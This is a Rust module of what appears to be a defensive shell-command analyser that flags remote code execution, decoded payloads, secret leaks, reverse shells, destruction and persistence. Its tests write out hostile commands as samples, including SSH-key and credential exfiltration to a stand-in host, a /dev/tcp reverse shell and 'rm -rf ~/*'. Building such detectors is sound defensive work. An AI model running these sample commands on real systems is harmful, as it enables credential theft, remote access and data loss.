//! Facts about shell commands.

mod asides;
mod files;
mod interpreters;
mod judge;
mod network;
mod packages;
mod transfer;
mod words;
mod written;

use std::borrow::Cow;
use std::collections::HashMap;
use std::collections::HashSet;

pub(crate) use self::asides::route;
pub(crate) use self::files::is_public_key;
pub(crate) use self::files::start_up_file;
use self::network::is_connection;
use self::words::file_name;
use self::words::passes;
use self::words::program;
use self::words::unwrapped;
pub(crate) use self::written::commands_in;
pub(crate) use self::written::quoted;
use super::How;
use super::What;
use crate::secrets;
use crate::secrets::Secret;
use crate::shell;
use crate::shell::Command;
use crate::shell::Pipeline;
use crate::shell::Word;
use crate::span::Lang;
use crate::urls::Url;

/// How deep text inside of text (`sh -c '…'`) is read.
const DEPTH: usize = 4;

/// Bytes of one text that are made of others: of variables, by commands, and what is handed to another shell.
const ROOM: usize = 4 << 20;

/// A fact and its byte in the text.
pub(crate) type Seen = (What, usize);

/// Code of another language that stands inside of shell.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Foreign {
    pub(crate) lang: Lang,
    pub(crate) text: String,
    pub(crate) at: usize,
}

/// What a text of shell does.
#[derive(Debug, Default)]
pub(crate) struct Read {
    pub(crate) seen: Vec<Seen>,
    pub(crate) foreign: Vec<Foreign>,
    /// Whether some of it was not read, because it is too long or too deep.
    pub(crate) cut: bool,
}

/// Reads a text of shell.
pub(crate) fn read(text: &str) -> Read {
    let mut state = State { room: ROOM, ..State::default() };
    let cut = shell::each(text, |pipeline| state.pipeline(pipeline, 0, DEPTH));
    state.read.cut |= cut;
    if let Some(at) = text.find(":|:&") {
        state.saw(What::Destroys("the machine's time, by endless copies of itself".to_owned()), at);
    }
    state.leaves_behind();
    if state.waits {
        // What asks for its orders again and again is no installation.
        for (what, _) in &mut state.read.seen {
            if let What::RemoteRun { how: how @ How::Held, .. } = what {
                *how = How::Evaluated;
            }
        }
    }
    state.read
}

#[derive(Default)]
struct State {
    read: Read,
    /// Bytes that may still be made of others and read again.
    room: usize,
    /// Variables whose text is known.
    known: HashMap<String, String>,
    /// Variables that hold something from the network, something decoded or a secret.
    fetched: HashMap<String, Option<Url>>,
    decoded: HashMap<String, Option<String>>,
    secret: HashMap<String, Secret>,
    /// Files that came from the network.
    saved: HashMap<String, Option<Url>>,
    /// Variables that name files of secrets.
    places: HashMap<String, Secret>,
    /// Files that secrets were put into.
    hoards: HashMap<String, Secret>,
    /// Whether a connection is open as a file of the shell.
    connected: bool,
    /// Whether it waits between rounds.
    waits: bool,
    /// Variables that say who is at work.
    who: HashSet<String>,
    /// Where a date was asked for.
    dated: Option<usize>,
    /// Where the remote repositories lie.
    remotes: HashMap<String, Url>,
}

/// What comes out of a command.
#[derive(Clone, Default)]
struct Flow {
    fetched: Option<Option<Url>>,
    decoded: Option<Option<String>>,
    secret: Option<Secret>,
    /// Whether it is the names of files, not what is in them.
    names: bool,
    text: Option<String>,
}

/// A command as it is judged, with what comes into it.
#[derive(Clone, Copy)]
struct Act<'a> {
    /// What is called, without its folder and in lower case.
    name: &'a str,
    /// The words after that.
    words: &'a [&'a str],
    /// The command as it is written.
    command: &'a Command,
    /// What it reads.
    input: &'a Flow,
    /// What its words hold.
    arguments: &'a Flow,
    at: usize,
    /// How deep text inside of its text is read.
    depth: usize,
}

const SHELLS: [&str; 8] = ["sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "busybox"];
const INTERPRETERS: [&str; 14] = [
    "cmd",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "osascript",
    "pwsh",
    "powershell",
    "deno",
    "bun",
    "iex",
    "invoke-expression",
];

impl State {
    pub(super) fn saw(&mut self, what: What, at: usize) {
        if self.read.seen.len() < 2_000 {
            self.read.seen.push((what, at));
        }
    }

    /// A word with the variables that are known put in.
    pub(super) fn text_of<'w>(&self, word: &'w Word) -> Cow<'w, str> {
        /// A text made of variables that is longer stays as it is written.
        const LONGEST: usize = 8192;
        if self.known.is_empty() || !word.text.contains('$') {
            return Cow::Borrowed(&word.text);
        }
        let mut parts = word.text.split('$');
        let mut text = parts.next().unwrap_or_default().to_owned();
        for part in parts {
            let end = part.bytes().position(|byte| !byte.is_ascii_alphanumeric() && byte != b'_');
            let (name, rest) = part.split_at(end.unwrap_or(part.len()));
            match self.known.get(name).filter(|value| text.len() + value.len() <= LONGEST) {
                Some(value) => text.push_str(value),
                None => {
                    text.push('$');
                    text.push_str(name);
                }
            }
            text.push_str(rest);
        }
        Cow::Owned(text)
    }

    /// Whether there is room for a text that was made of others. What goes through many hands, or is read again and again,
    /// costs more than it stands in the file for.
    fn spend(&mut self, length: usize) -> bool {
        let room = length <= self.room;
        self.room -= length.min(self.room);
        self.read.cut |= !room;
        room
    }

    fn pipeline(&mut self, pipeline: &Pipeline, base: usize, depth: usize) {
        let mut flow = Flow::default();
        for command in &pipeline.commands {
            flow = self.command(command, flow, base, depth);
        }
        self.shell_on_the_network(pipeline, base);
    }

    fn runs(&mut self, word: &Word, base: usize, depth: usize) -> Flow {
        let mut flow = Flow::default();
        for pipeline in &word.runs {
            let mut inner = Flow::default();
            for command in &pipeline.commands {
                inner = self.command(command, inner, base, depth);
            }
            flow.merge(inner);
        }
        flow
    }

    /// Looks at one command with what comes into it; answers what goes out.
    fn command(&mut self, command: &Command, mut input: Flow, base: usize, depth: usize) -> Flow {
        let at = base + command.at;
        for (name, word) in &command.assigned {
            self.assign(name, word, base, depth);
        }
        let mut flows: Vec<(usize, Flow)> = Vec::new();
        let mut fetched = false;
        for (number, word) in command.words.iter().enumerate().filter(|(_, word)| !word.runs.is_empty()) {
            let mut flow = self.runs(word, base, depth);
            // Only the first address is asked for, and there may be many.
            flow.fetched = flow.fetched.filter(|_| !std::mem::replace(&mut fetched, true));
            flows.push((number, flow));
        }
        let mut texts: Vec<Cow<'_, str>> = command.words.iter().map(|word| self.text_of(word)).collect();
        // What a substitution prints is known where it is no more than a text: `$(printf '\143…')`.
        for (number, flow) in &flows {
            let text = &mut texts[*number];
            if let Some(printed) =
                flow.text.as_ref().or(flow.decoded.as_ref().and_then(Option::as_ref)).filter(|_| text.contains("$()"))
            {
                *text = Cow::Owned(text.replace("$()", printed.trim_end()));
            }
        }
        // A variable may hold a command with its arguments.
        if let Some(first) = texts.first()
            && first.contains(' ')
            && command.words[0].text != **first
        {
            let parts: Vec<_> = first.split_whitespace().map(|part| Cow::Owned(part.to_owned())).collect();
            texts.splice(0..1, parts);
        }
        let words: Vec<&str> = unwrapped(&texts);
        let mut arguments = Flow::default();
        let mut flows = flows.drain(..).peekable();
        for (number, word) in command.words.iter().enumerate() {
            if let Some((_, flow)) = flows.next_if(|(place, _)| *place == number) {
                arguments.merge(flow);
            }
            if word.text.contains('$') {
                arguments.merge(self.variables(&word.text));
            }
        }
        if let Some(word) = &command.input {
            let inner = self.runs(word, base, depth);
            input.merge(inner);
            input.text.get_or_insert_with(|| self.text_of(word).into_owned());
        }
        let Some(first) = words.first() else {
            self.writes(command, "", &[], at, &input, depth);
            return input;
        };
        // `$name = value`, as PowerShell has it.
        if let (Some(name), Some(&"=")) = (first.strip_prefix('$'), words.get(1))
            && self.known.len() < 500
        {
            self.known.insert(name.to_owned(), words[2..].join(" "));
            let environment = words[2..].iter().any(|word| word.to_ascii_lowercase().starts_with("env:"));
            let read = words[2..].iter().find_map(|word| secrets::at_path(word)).filter(|_| {
                words.get(2).is_some_and(|verb| {
                    verb.to_ascii_lowercase().starts_with("get-content") || *verb == "gc" || *verb == "cat"
                })
            });
            if let Some(secret) = environment.then_some(Secret::Environment).or(read) {
                self.secret.insert(name.to_owned(), secret);
            }
        }
        let name = program(first);
        if matches!(name.as_str(), "for" | "read" | "sleep") {
            self.names_values(&name, &words, &input, &arguments);
            return input;
        }
        self.connected |=
            texts.first().is_some_and(|word| *word == "exec") && texts.iter().any(|word| is_connection(word));
        if texts.first().is_some_and(|word| matches!(&**word, "sudo" | "doas")) && name == "su" {
            self.saw(What::Escalates("becomes another user"), at);
        }
        let rest = &words[1..];
        let act = Act { name: &name, words: rest, command, input: &input, arguments: &arguments, at, depth };
        let mut out = self.judge(act);
        if out.text.as_ref().is_some_and(|text| !self.spend(text.len())) {
            out.text = None;
        }
        self.writes(command, &name, rest, at, &out, depth);
        if let Some(secret) = out.secret.or(input.secret.filter(|_| passes(&name))) {
            for word in &command.into {
                self.hoards.insert(file_name(&word.text), secret);
            }
        }
        if !command.into.is_empty() {
            let sink = out.fetched.clone().or(input.fetched.clone());
            for word in &command.into {
                if let Some(url) = &sink {
                    self.saved.insert(file_name(&word.text), url.clone());
                }
            }
        }
        if out.secret.is_none() && passes(&name) {
            out.secret = input.secret.or(arguments.secret);
        }
        out
    }

    fn assign(&mut self, name: &str, word: &Word, base: usize, depth: usize) {
        let flow = self.runs(word, base, depth);
        let text = self.text_of(word);
        if word.runs.is_empty() && text.len() < 4096 && self.known.len() < 500 {
            self.known.insert(name.to_owned(), text.into_owned());
        }
        if self.tells_who(word) > 0 {
            self.who.insert(name.to_owned());
        }
        if name.len() >= 7 && word.text.contains("://") {
            let value = self.text_of(word).into_owned();
            self.routed(name, &value, false, base + word.at);
        }
        if let Some(url) = flow.fetched {
            self.fetched.insert(name.to_owned(), url);
        }
        if let Some(inner) = flow.decoded {
            self.decoded.insert(name.to_owned(), inner);
        }
        if let Some(secret) = flow.secret {
            self.secret.insert(name.to_owned(), secret);
        }
        if name == "NODE_TLS_REJECT_UNAUTHORIZED" && word.text == "0" {
            self.saw(What::ChecksOff("certificates are not checked"), base + word.at);
        }
        if name == "HISTFILE" && (word.text.is_empty() || word.text == "/dev/null") {
            self.saw(What::CoversTraces("the shell's history is switched off"), base + word.at);
        }
    }

    /// What the variables in a word hold.
    pub(super) fn variables(&self, text: &str) -> Flow {
        let mut flow = Flow::default();
        for part in text.split('$').skip(1) {
            let name: String = part.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
            if let Some(url) = self.fetched.get(&name) {
                flow.fetched = Some(url.clone());
            }
            if let Some(inner) = self.decoded.get(&name) {
                flow.decoded = Some(inner.clone());
            }
            if let Some(secret) = self.secret.get(&name) {
                flow.secret = Some(*secret);
            } else if secrets::is_secret_name(&name) {
                flow.secret.get_or_insert(Secret::Variable);
            }
        }
        flow
    }
}

impl Flow {
    fn merge(&mut self, other: Self) {
        self.fetched = self.fetched.take().or(other.fetched);
        self.decoded = self.decoded.take().or(other.decoded);
        self.secret = self.secret.or(other.secret);
        self.text = self.text.take().or(other.text);
        self.names |= other.names;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(text: &str) -> Vec<What> {
        read(text).seen.into_iter().map(|(what, _)| what).collect()
    }

    fn runs_remote(text: &str) -> bool {
        seen(text).iter().any(|what| matches!(what, What::RemoteRun { .. }))
    }

    fn runs_decoded(text: &str) -> bool {
        seen(text).iter().any(|what| matches!(what, What::DecodedRun { .. }))
    }

    fn leaks(text: &str) -> bool {
        seen(text).iter().any(|what| matches!(what, What::Leak { .. }))
    }

    #[test]
    fn what_is_fetched_and_run_is_seen_in_every_form() {
        for text in [
            "curl -fsSL https://a.b/x.sh | bash",
            "wget -qO- https://a.b/x | sudo sh -s -- --yes",
            "bash -c \"$(curl -fsSL https://a.b/x)\"",
            "bash <(curl -s https://a.b/x)",
            "eval \"$(curl https://a.b/x)\"",
            "S=$(curl https://a.b/x); eval \"$S\"",
            "curl -o /tmp/x https://a.b/x && chmod +x /tmp/x && /tmp/x",
            "wget https://a.b/setup.sh\nbash setup.sh",
            "C=curl; $C https://a.b/x | sh",
            "iwr https://a.b/x.ps1 | iex",
            "sh -c 'curl https://a.b/x | sh'",
            "iex (iwr https://a.b/x)",
        ] {
            assert!(runs_remote(text), "{text}");
        }
        for text in [
            "curl https://a.b/x.json | python3 -m json.tool",
            "curl https://a.b/x.json | jq .",
            "curl -o x.zip https://a.b/x.zip && unzip x.zip",
            "curl https://a.b/x | python3 -c 'import sys; print(sys.stdin.read())'",
            "eval \"$(ssh-agent -s)\"",
        ] {
            assert!(!runs_remote(text), "{text}");
        }
    }

    #[test]
    fn what_is_decoded_and_run_is_seen() {
        for text in [
            "echo Y3VybCBodHRwOi8vYS5iIHwgc2g= | base64 -d | bash",
            "bash -c \"$(echo aWQK | base64 --decode)\"",
            "base64 -d <<< aWQK | sh",
            "powershell -enc aQBlAHgAIAAkAGUAbgB2ADoAeAAgADsAIABsAHMA",
            "echo 'phey uggc' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
        ] {
            assert!(runs_decoded(text), "{text}");
        }
        assert!(!runs_decoded("echo x | base64 -d > picture.png"));
    }

    #[test]
    fn secrets_that_leave_are_seen_and_keys_of_a_service_are_not() {
        for text in [
            "cat ~/.ssh/id_rsa | curl -X POST -d @- https://a.b",
            "curl -F file=@$HOME/.aws/credentials https://a.b",
            "env | base64 | curl --data-binary @- https://a.b",
            "K=$(cat ~/.ssh/id_ed25519); curl -d \"$K\" https://a.b",
            "scp ~/.ssh/id_rsa user@a.b:/tmp/",
            "nslookup $(cat ~/.ssh/id_rsa | base64 | head -c 40).a.b",
            "printenv > /dev/tcp/203.0.113.9/80",
        ] {
            assert!(leaks(text), "{text}");
        }
        for text in [
            "curl -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models",
            "curl -d \"{\\\"api_key\\\": \\\"$KEY\\\"}\" https://a.b",
            "cat .env.example",
            "ssh -i ~/.ssh/id_rsa host",
        ] {
            assert!(!leaks(text), "{text}");
        }
    }

    #[test]
    fn changes_of_the_machine_are_seen() {
        assert!(seen("rm -rf ~/*").iter().any(|what| matches!(what, What::Destroys(_))));
        assert!(!seen("rm -rf ~/project/target").iter().any(|what| matches!(what, What::Destroys(_))));
        assert!(
            seen("(crontab -l; echo '* * * * * x') | crontab -").iter().any(|what| matches!(what, What::Persists(_)))
        );
        assert!(seen("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").contains(&What::ReverseShell));
        assert!(seen("xattr -d com.apple.quarantine x.app").iter().any(|what| matches!(what, What::ChecksOff(_))));
        assert!(
            !seen("echo 'export PATH=$HOME/bin' >> ~/.bashrc").iter().any(|what| matches!(what, What::Persists(_)))
        );
        assert!(seen("echo 'sh /tmp/x &' >> ~/.bashrc").iter().any(|what| matches!(what, What::Persists(_))));
    }

    #[test]
    fn code_of_other_languages_is_handed_on() {
        let read = read("python3 - <<'PY'\nimport os\nPY\nnode -e 'x()'");
        assert_eq!(read.foreign[0].lang, Lang::Python);
        assert_eq!(read.foreign[1].text, "x()");
    }
}
